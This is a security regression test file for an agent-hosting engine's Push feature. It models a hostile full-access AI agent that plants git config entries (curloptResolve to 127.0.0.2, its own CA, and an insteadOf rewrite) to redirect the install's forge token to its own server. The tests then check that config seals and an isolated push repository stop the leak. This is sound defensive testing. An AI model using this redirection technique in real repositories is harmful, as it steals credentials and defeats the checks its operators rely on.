/**
 * Issue 31, item 2 (the forge finding), tried as an attacker would, through the engine's own Push:
 * a full-access agent writes into its lane's `.git/config` `http.curloptResolve` (the forge's
 * host:port resolved to a server of its own on 127.0.0.2), `http.sslCAInfo` (its own CA, which
 * signed that server's certificate) and a `url.<x>.insteadOf` rewrite; its person presses Push.
 * The install-wide forge token must reach the project's forge and nothing else. Positive controls:
 * the same planted lane pushed the old way (git run in the lane, its configuration in effect, with
 * codexpi's askpass) hands the token to the agent's server; the same lane, sealed, pushes.
 */
import fs from "node:fs";
import { createHash } from "node:crypto";
import path from "node:path";
import { execa } from "execa";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { createEngineApi } from "../../../src/engine/api/index.js";
import { type Actor, CLI_ACTOR } from "../../../src/engine/api/model.js";
import { startConversation } from "../../../src/engine/conversations/conversations.js";
import { ensureLane, laneAfterTurn, laneOf } from "../../../src/engine/lanes/index.js";
import { testEngine } from "../../support/engine.js";
import {
  type AttackerServer,
  basic,
  makeCertificates,
  pushTheOldWay,
  startAttacker,
} from "../../support/forgeAttack.js";
import { type GitHttpServer, startGitHttpServer } from "../../support/gitHttpServer.js";
import { jailAvailable } from "../../support/jail.js";
import { GIT_ENV, git, isolateGit } from "../orchestrations/repo.js";

const TOKEN = "install-forge-token-5e6f7a8b9c0d";
const USER = "x-access-token";
const OWNER: Actor = { userId: "UOWNER", isAdmin: false };

let jail = false;
beforeAll(async () => {
  jail = await jailAvailable();
  isolateGit();
});

type Env = Awaited<ReturnType<typeof testEngine>>;
let env: Env | undefined;
const servers: Array<{ close(): Promise<void> }> = [];
afterEach(async () => {
  for (const s of servers.splice(0)) await s.close();
  await env?.close();
  env = undefined;
});

/**
 * The project's forge on 127.0.0.1:<port> (a real smart-HTTP git server, or — https — a TLS
 * server whose certificate no system CA signed), and the agent's server on 127.0.0.2 at the same
 * port, where `http.curloptResolve=localhost:<port>:127.0.0.2` sends git.
 */
async function servePair(scheme: "http" | "https", forgeRoot: string, certDir: string) {
  const attackerCerts = scheme === "https" ? await makeCertificates(certDir, "attacker") : undefined;
  const forgeCerts = scheme === "https" ? await makeCertificates(certDir, "forge") : undefined;
  for (let attempt = 0; ; attempt++) {
    let forge: GitHttpServer | (AttackerServer & { port: number });
    let port: number;
    if (forgeCerts) {
      forge = await startAttacker({ host: "127.0.0.1", port: 0, tls: forgeCerts });
      port = forge.port;
    } else {
      forge = await startGitHttpServer({ root: forgeRoot, user: USER, token: TOKEN });
      port = Number(new URL(forge.url).port);
    }
    servers.push(forge);
    try {
      const attacker = await startAttacker({ host: "127.0.0.2", port, tls: attackerCerts });
      servers.push(attacker);
      return { forge, attacker, port, attackerCa: attackerCerts?.caFile ?? "/dev/null" };
    } catch (err) {
      if (attempt >= 5) throw err; // the port is taken on 127.0.0.2: another pair
    }
  }
}

/** A branch-mode project whose remote is on the forge, the install's token, and a lane with a commit. */
async function laneToPush(scheme: "http" | "https") {
  const e = await testEngine();
  env = e;
  const forgeRoot = path.join(e.dir, "forge");
  fs.mkdirSync(forgeRoot);
  const bare = path.join(forgeRoot, "widgets.git");
  await git(forgeRoot, "init", "-q", "--bare", "-b", "main", bare);
  const pair = await servePair(scheme, forgeRoot, path.join(e.dir, "certs"));
  const origin = `${scheme}://localhost:${pair.port}`;
  const remoteUrl = `${origin}/widgets.git`;
  const root = path.join(e.dir, "repo");
  fs.mkdirSync(root);
  await git(root, "init", "-q", "-b", "main");
  fs.writeFileSync(path.join(root, "app.txt"), "base\n");
  await git(root, "add", "app.txt");
  await git(root, "commit", "-q", "-m", "Base");
  await git(root, "remote", "add", "origin", remoteUrl);
  const api = createEngineApi(e.engine);
  await e.addProject({ name: "repo", path: root, ownerId: "UOWNER", workspaceMode: "branch" });
  const project = await api.projects.setForge(CLI_ACTOR, "repo", {
    forge: "github",
    forgeUrl: `${origin}/api/v3`,
    forgeRepo: "acme/widgets",
  });
  await api.projects.setForgeToken(CLI_ACTOR, null, TOKEN);
  const { conversation } = await startConversation(e.db, e.clock, project, "Add a README", "UOWNER", {
    title: "Add a README",
  });
  const dir = await ensureLane(e.engine, { conversation, project });
  fs.writeFileSync(path.join(dir, "README.md"), "# widgets\n");
  expect(await laneAfterTurn(e.engine, conversation)).toMatchObject({ changed: true });
  await e.db.updateTable("prompt_queue").set({ status: "done" }).execute();
  const lane = (await laneOf(e.db, conversation.id))!;
  const config = path.join(dir, ".git", "config");
  const sealed = fs.readFileSync(config);
  /** Puts back the configuration codexpi made (byte for byte: what the seal covers). */
  const unplant = () => fs.writeFileSync(config, sealed);
  /** What the agent writes into its lane's configuration. */
  const plant = async () => {
    await git(dir, "config", "http.curloptResolve", `localhost:${pair.port}:127.0.0.2`);
    await git(dir, "config", "http.sslCAInfo", pair.attackerCa);
    await git(dir, "config", `url.${origin}/stolen.git.insteadOf`, remoteUrl);
  };
  const push = () => api.lanes.push(OWNER, conversation.id);
  const oldWay = () =>
    pushTheOldWay({
      repo: dir,
      url: remoteUrl,
      branch: lane.branch,
      token: TOKEN,
      username: USER,
      dataDir: e.config.dataDir,
    });
  return { e, api, ...pair, bare, dir, lane, conversation, plant, unplant, push, oldWay };
}

/**
 * Seals the lane again as it now is: what a seal that missed the agent's change would look like
 * (the seal's format: sha256 of `.git/config`, NUL, the alternates file; then the base line).
 * Used to try the second layer — the push from codexpi's own repository — on its own.
 */
function resealAsIs(clone: string): void {
  const seal = `${clone}.seal`;
  const base = fs.readFileSync(seal, "utf8").split("\n")[1] ?? "";
  const read = (f: string) => (fs.existsSync(f) ? fs.readFileSync(f) : Buffer.alloc(0));
  const hash = createHash("sha256")
    .update(read(path.join(clone, ".git", "config")))
    .update("\0")
    .update(read(path.join(clone, ".git", "objects", "info", "alternates")))
    .digest("hex");
  fs.writeFileSync(seal, `${hash}\n${base}\n`);
}

async function remoteHead(bare: string, branch: string): Promise<string | null> {
  const r = await execa("git", ["--git-dir", bare, "rev-parse", "--verify", "-q", `refs/heads/${branch}`], {
    env: GIT_ENV,
    reject: false,
  });
  return r.exitCode === 0 ? r.stdout.trim() : null;
}

const withToken = (a: { received: Array<{ authorization: string | null }> }) =>
  a.received.filter((q) => q.authorization === basic(USER, TOKEN));

describe("Push from a lane whose agent planted network configuration", () => {
  const requireJail = (ctx: { skip: () => void }) => {
    if (!jail) ctx.skip();
  };

  it("S-FG-05: over http, the token and the branch reach the project's forge; the agent's server gets nothing (positive control: the old way hands it the token)", async (ctx) => {
    requireJail(ctx);
    const l = await laneToPush("http");
    await l.plant();
    // Positive control: git run in the lane, its configuration in effect, sends the token to the agent.
    const old = await l.oldWay();
    expect(old.exitCode).not.toBe(0);
    expect(withToken(l.attacker).length).toBeGreaterThan(0);
    expect(l.attacker.received.some((q) => q.url.startsWith("/stolen.git/"))).toBe(true);
    expect(await remoteHead(l.bare, l.lane.branch)).toBeNull();
    l.attacker.received.splice(0);
    const before = l.attacker.connections;

    resealAsIs(l.dir); // the second layer alone: as if the seal had missed the change
    await expect(l.push()).resolves.toEqual({ remote: "origin" });
    const forge = l.forge as GitHttpServer;
    expect(forge.received.some((q) => q.authorization === basic(USER, TOKEN) && q.status === 200)).toBe(true);
    expect(forge.received.some((q) => q.method === "POST" && q.url === "/widgets.git/git-receive-pack")).toBe(
      true,
    );
    expect(forge.received.filter((q) => q.url.includes("stolen"))).toEqual([]);
    expect(l.attacker.received).toEqual([]);
    expect(l.attacker.connections).toBe(before);
    expect(await remoteHead(l.bare, l.lane.branch)).toBe(await git(l.dir, "rev-parse", "HEAD"));
    // codexpi's push repository is gone, and the lane's configuration is as the agent left it.
    expect(fs.readdirSync(path.join(l.e.config.dataDir, "push"))).toEqual([]);
    expect(await git(l.dir, "config", "http.curloptResolve")).toContain("127.0.0.2");
  });

  it("S-FG-05: over https, the agent's CA and resolve entry take git nowhere: it goes to the forge's address, and the agent's TLS server gets nothing (positive control: the old way hands it the token)", async (ctx) => {
    requireJail(ctx);
    const l = await laneToPush("https");
    await l.plant();
    const old = await l.oldWay();
    expect(old.exitCode).not.toBe(0);
    expect(withToken(l.attacker).length).toBeGreaterThan(0); // through TLS, verified with the agent's CA
    l.attacker.received.splice(0);
    const attackerBefore = l.attacker.connections;
    const forgeBefore = (l.forge as AttackerServer).connections;

    resealAsIs(l.dir);
    // The test's forge has a certificate of a CA the system does not trust, so git stops at its
    // handshake: what matters is where it went (the forge's address) and what the agent got (nothing).
    await expect(l.push()).rejects.toMatchObject({ reason: "forge_push_failed" });
    expect((l.forge as AttackerServer).connections).toBeGreaterThan(forgeBefore);
    expect((l.forge as AttackerServer).received).toEqual([]);
    expect(l.attacker.received).toEqual([]);
    expect(l.attacker.connections).toBe(attackerBefore);
  });

  it("S-FG-05: a lane whose seal is broken is refused before any git command, whatever button; the same lane sealed pushes (positive control)", async (ctx) => {
    requireJail(ctx);
    const l = await laneToPush("http");
    await l.plant();
    const forge = l.forge as GitHttpServer;
    for (const press of [
      () => l.push(),
      () => l.api.lanes.openPullRequest(OWNER, l.conversation.id, { threadUrl: null, requester: "UOWNER" }),
      () => l.api.lanes.merge(OWNER, l.conversation.id),
      () => l.api.lanes.askToMerge(OWNER, l.conversation.id),
    ])
      await expect(press()).rejects.toMatchObject({ code: "conflict", reason: "lane_unsealed" });
    // Nothing started: no push repository, no askpass program, nothing sent anywhere.
    expect(fs.existsSync(path.join(l.e.config.dataDir, "push"))).toBe(false);
    expect(fs.existsSync(path.join(l.e.config.dataDir, "askpass"))).toBe(false);
    expect(forge.received).toEqual([]);
    expect(l.attacker.received).toEqual([]);
    expect(l.attacker.connections).toBe(0);
    expect((await laneOf(l.e.db, l.conversation.id))?.pushed_at).toBeNull();

    // Positive control: the configuration as codexpi made it again, the seal holds and Push works.
    l.unplant();
    await expect(l.push()).resolves.toEqual({ remote: "origin" });
    expect(withToken(forge).length).toBeGreaterThan(0);
    expect(await remoteHead(l.bare, l.lane.branch)).toBe(await git(l.dir, "rev-parse", "HEAD"));
  });
});
